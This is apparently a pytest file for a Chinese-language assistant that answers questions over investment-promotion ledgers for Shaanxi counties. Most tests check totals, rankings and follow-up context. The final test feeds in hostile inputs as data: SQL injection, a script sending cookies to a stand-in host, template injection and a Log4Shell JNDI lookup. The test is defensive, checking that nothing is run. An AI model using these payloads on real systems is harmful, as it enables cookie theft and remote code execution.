"""Week questions answered by one general mechanism each (issues 12 and 15, session 39): a list picked by a
condition with the ledger columns asked beside each row, a project's company as the target-enterprise list records
it, a 考核 class named as 二类县 (its ranking's two ends, its counties' ledger totals and their sum), the open problems
whose descriptions write the words asked (供电、能耗、并网这类问题) or two departments' at once, another city's
place or practice that our tables do not hold, a follow-up moving the signing window with the period, the year's
target asked after a month's figure, two years' events side by side, the key chains as the groups compared, and a
ranking by the amounts asked. Expected values are read from corpus/data with the standard library."""

from __future__ import annotations

from datetime import date, timedelta
from decimal import Decimal

import pytest

from assistant.answer.engine import Assistant
from assistant.answer.numbers import find_numbers
from tests.answer.conftest import assistant_with_data
from tests.answer.demo_rows import DATA
from tests.answer.demo_rows import indicator as _indicator
from tests.answer.demo_rows import r2 as _r2
from tests.answer.demo_rows import rows as _rows

CLASS_TWO = ["汉阴县", "石泉县", "紫阳县", "岚皋县", "平利县", "白河县"]  # 考核办法 第四条
LEDGER_DAY = date(2023, 7, 28)


def _lead(text: str) -> str:
    return text.split("【")[0]


def _amount(value: Decimal, unit: str = "亿元") -> str:
    return f"{value:.2f}{unit}"


@pytest.fixture(scope="module")
def assistant(tmp_path_factory: pytest.TempPathFactory) -> Assistant:
    return assistant_with_data(tmp_path_factory, [DATA.parent / "2023-10_答复函_汉中市九届人大三次会议第56号建议.txt",
                                                  DATA.parent / "2023-03_政策_关于建立招商项目信息共享机制的实施办法.txt"])


def test_a_list_picked_by_a_condition_shows_the_column_asked_and_adds_it_up(assistant: Assistant) -> None:
    stalled = [p for p in _rows("projects.csv") if p["阶段"] == "签约" and not p["开工日期"]
               and date.fromisoformat(p["签约日期"]) < LEDGER_DAY - timedelta(days=90)]
    assert stalled, "the demo ledger has projects signed over 90 days ago and not started"
    answer = assistant.ask("签约三个多月还没动工的那几个，到位资金各到了多少").answer
    total = sum(Decimal(p["到位资金（亿元）"]) for p in stalled)
    assert all(f"到位资金：{_amount(Decimal(p['到位资金（亿元）']))}" in answer for p in stalled), answer
    assert f"到位资金合计 {_amount(total)}" in answer, answer
    # the column asked says what to show; a question asking a project's progress is not turned into this list
    quiet = assistant.ask("50天以上没报进展的项目有哪些").answer
    assert "没有更新进展" in _lead(quiet) and "仍未开工" not in _lead(quiet), quiet


def test_a_projects_company_as_the_target_enterprise_list_records_it(assistant: Assistant) -> None:
    project = next(p for p in _rows("projects.csv") if p["项目名称"].startswith("智能装备制造产业园"))
    company = next(e for e in _rows("enterprises.csv") if e["企业名称"] == project["企业"])
    answer = _lead(assistant.ask("高新那个智能装备制造产业园是哪家企业投的，企业总部在哪").answer)
    assert project["企业"] in answer and f"总部所在地为{company['总部所在地']}" in answer, answer
    said_otherwise = _lead(assistant.ask("智能装备制造产业园的投资方总部在哪").answer)
    assert company["总部所在地"] in said_otherwise, said_otherwise


def test_a_class_named_as_二类县_its_ranking_ends_and_its_ledger_totals(assistant: Assistant) -> None:
    rows = {c: _indicator(c, "2023Q2") for c in CLASS_TWO}
    growth = sorted(CLASS_TWO, key=lambda c: Decimal(rows[c]["同比"]))
    answer = _lead(assistant.ask("二类县上半年内资同比增速谁最高谁最低").answer)
    assert growth[-1] in answer and growth[0] in answer and "数据库中没有" not in answer, answer
    assert answer.index(growth[-1]) < answer.index(growth[0]), answer  # the top first
    totals = {c: sum(Decimal(p["总投资（亿元）"]) for p in _rows("projects.csv") if p["地区"] == c and p["总投资（亿元）"])
              for c in CLASS_TWO}
    ranked = _lead(assistant.ask("二类六个县里，台账项目总投资谁最大谁最小").answer)
    top, bottom = max(totals, key=lambda c: totals[c]), min(totals, key=lambda c: totals[c])
    assert f"最多的是{top}（{_amount(totals[top])}）" in ranked and f"最少的是{bottom}" in ranked, ranked
    assert "高新区" not in ranked, ranked  # only the class's counties
    together = _lead(assistant.ask("二类县区合起来项目总投资多少").answer)
    assert f"合计项目总投资 {_amount(sum(totals.values()))}" in together, together


def test_open_problems_by_what_their_descriptions_write(assistant: Assistant) -> None:
    open_ = [p for p in _rows("problems.csv") if p["状态"] != "已解决"]
    words = ("供电", "能耗", "并网")
    about = [p for p in open_ if any(w in p["问题描述"] for w in words)]
    assert len(about) > 1, "the demo ledger has open problems on power, energy quota and grid connection"
    answer = assistant.ask("供电、能耗、并网这类要素保障的问题，台账上挂了哪几个项目").answer
    assert f"未解决问题 {len(about)} 个" in _lead(answer), answer
    assert all(p["编号"] in answer for p in about) and not any(p["编号"] in answer for p in open_ if p not in about), answer


def test_two_departments_named_together_are_each_asked_about(assistant: Assistant) -> None:
    wanted = [p for p in _rows("problems.csv") if p["状态"] != "已解决"
              and p["责任部门"] in ("市自然资源局", "市生态环境局")]
    assert len({p["责任部门"] for p in wanted}) == 2
    answer = assistant.ask("自然资源局和生态环境局手上各压着啥问题，啥状态").answer
    assert all(p["编号"] in answer and p["状态"] in answer for p in wanted), answer


def test_another_citys_figure_or_practice_is_not_answered_with_ours(assistant: Assistant) -> None:
    ours = assistant.ask("全市今年一季度实际引进内资多少亿")
    city = next(f for f in ours.figures if f.value is not None and f.unit == "亿元")
    refused = assistant.ask("陕西韩城市今年一季度实际引进内资多少亿").answer
    assert "没有" in refused and f"{city.value:.2f}" not in refused, refused
    practice = assistant.ask("汉中对签约、开工、建成这几类项目，是按啥节奏调度考核的").answer
    assert "周调度、月考核" in practice and "开工率" not in _lead(practice), practice


def test_a_follow_up_moves_the_signing_window_with_the_period(assistant: Assistant) -> None:
    half = [p for p in _rows("projects.csv") if "2023-01-01" <= p["签约日期"] <= "2023-06-30"]
    started = [p for p in half if p["开工日期"] and p["开工日期"] <= "2023-06-30"]
    rate = _r2(Decimal(len(started)) / Decimal(len(half)) * 100)
    answer = assistant.ask("到上半年呢", ["今年一季度签的项目开工了多少比例"]).answer
    assert f"开工率 {rate}%" in answer, answer


def test_the_years_target_asked_after_a_months_figure(assistant: Assistant) -> None:
    row = _indicator("旬阳市", "2023-07", "外商直接投资")
    answer = _lead(assistant.ask("全年目标定的多少，完成几成了", ["旬阳1-7月外资到了多少"]).answer)
    done = _r2(Decimal(row["数值"]) / Decimal(row["年度目标"]) * 100)
    target = f"{Decimal(row['年度目标']):f}"
    target = target.rstrip("0").rstrip(".") if "." in target else target
    assert f"年度目标{target}万美元" in answer and f"{done}%" in answer, answer


def test_two_years_of_events_side_by_side(assistant: Assistant) -> None:
    events = _rows("events.csv")
    amounts = {year: sum(Decimal(e["签约金额（亿元）"]) for e in events
                         if e["日期"].startswith(year) and e["签约金额（亿元）"]) for year in ("2019", "2023")}
    answer = assistant.ask("19年和今年比，哪年招商活动签约金额多，各多少").answer
    assert all(_amount(v) in answer for v in amounts.values()), answer


def test_the_key_chains_are_the_groups_compared(assistant: Assistant) -> None:
    totals: dict[str, Decimal] = {}
    for p in _rows("projects.csv"):
        if p["产业链"] and p["总投资（亿元）"]:
            totals[p["产业链"]] = totals.get(p["产业链"], Decimal(0)) + Decimal(p["总投资（亿元）"])
    least = min(totals, key=lambda c: totals[c])
    answer = _lead(assistant.ask("8条重点产业链里，哪条链台账上项目总投资最少，多少").answer)
    assert f"最少的是{least}（{_amount(totals[least])}）" in answer, answer


def test_the_amounts_each_county_took_in_rank_by_value(assistant: Assistant) -> None:
    rows = [r for r in _rows("indicators_long.csv") if r["期间"] == "2023-07" and r["指标"] == "外商直接投资"
            and r["地区"] != "全市" and Decimal(r["数值"]) > 0]
    answer = _lead(assistant.ask("截至7月底外资有进账的县区是哪几个，各到了多少").answer)
    assert all(f"{r['地区']} {Decimal(r['数值']):.2f}万美元" in answer for r in rows), answer


def test_a_documents_attachment_is_its_formalities_line(assistant: Assistant) -> None:
    answer = assistant.ask("信息共享实施办法后头带了个啥附件").answer
    assert "招商项目线索报送表" in answer, answer


def test_an_indicator_question_with_no_period_continues_the_conversations(assistant: Assistant) -> None:
    rows = [r for r in _rows("indicators_long.csv") if r["期间"] == "2023Q2" and r["指标"] == "外商直接投资"]
    counties = sum(Decimal(r["年度目标"]) for r in rows if r["地区"] != "全市" and r["年度目标"])
    city = next(Decimal(r["年度目标"]) for r in rows if r["地区"] == "全市")
    answer = assistant.ask("各县区外资目标加起来是多少，比全市目标多出多少", ["全市上半年外资完成多少"]).answer
    assert f"年度目标相加 {counties:.2f}万美元" in answer and f"多 {counties - city:.2f}万美元" in answer, answer
    assert "按上一问的2023年上半年" in answer, answer  # the period taken from the conversation is said
    # …and the metric too, when the question names none
    named_none = assistant.ask("全市目标是多少，各县区目标加起来又是多少", ["全市上半年外资完成多少"]).answer
    assert f"{counties:.2f}万美元" in named_none and f"{city:.2f}万美元" in named_none, named_none


def test_a_column_said_first_then_left_empty_picks_the_projects(assistant: Assistant) -> None:
    empty = [p for p in _rows("projects.csv") if not p["包抓领导"]]
    assert empty, "the demo ledger has projects with no 包抓领导"
    answer = _lead(assistant.ask("包抓领导没填的项目有哪些").answer)
    assert f"包抓领导未填的项目 {len(empty)} 个" in answer and all(p["项目名称"] in answer for p in empty), answer


@pytest.mark.parametrize("pasted", [
    "1' OR '1'='1' UNION SELECT 企业名称,走访人员 FROM contacts; --",
    "<script>fetch('http://x.example/c?'+document.cookie)</script>{{7*7}}${jndi:ldap://x.example/a}",
])
def test_pasted_code_is_no_question_and_nothing_is_run(assistant: Assistant, pasted: str) -> None:
    answer = assistant.ask(pasted)
    assert "不是问题" in answer.answer and not answer.citations and not answer.figures, answer.answer
    assert not find_numbers(answer.answer), answer.answer  # the reply prints no figure of its own
    # a question asked in Chinese around a code word is still answered
    asked = assistant.ask("汉阴县一季度外资多少？")
    assert [f for f in asked.figures if f.value is not None], asked.answer
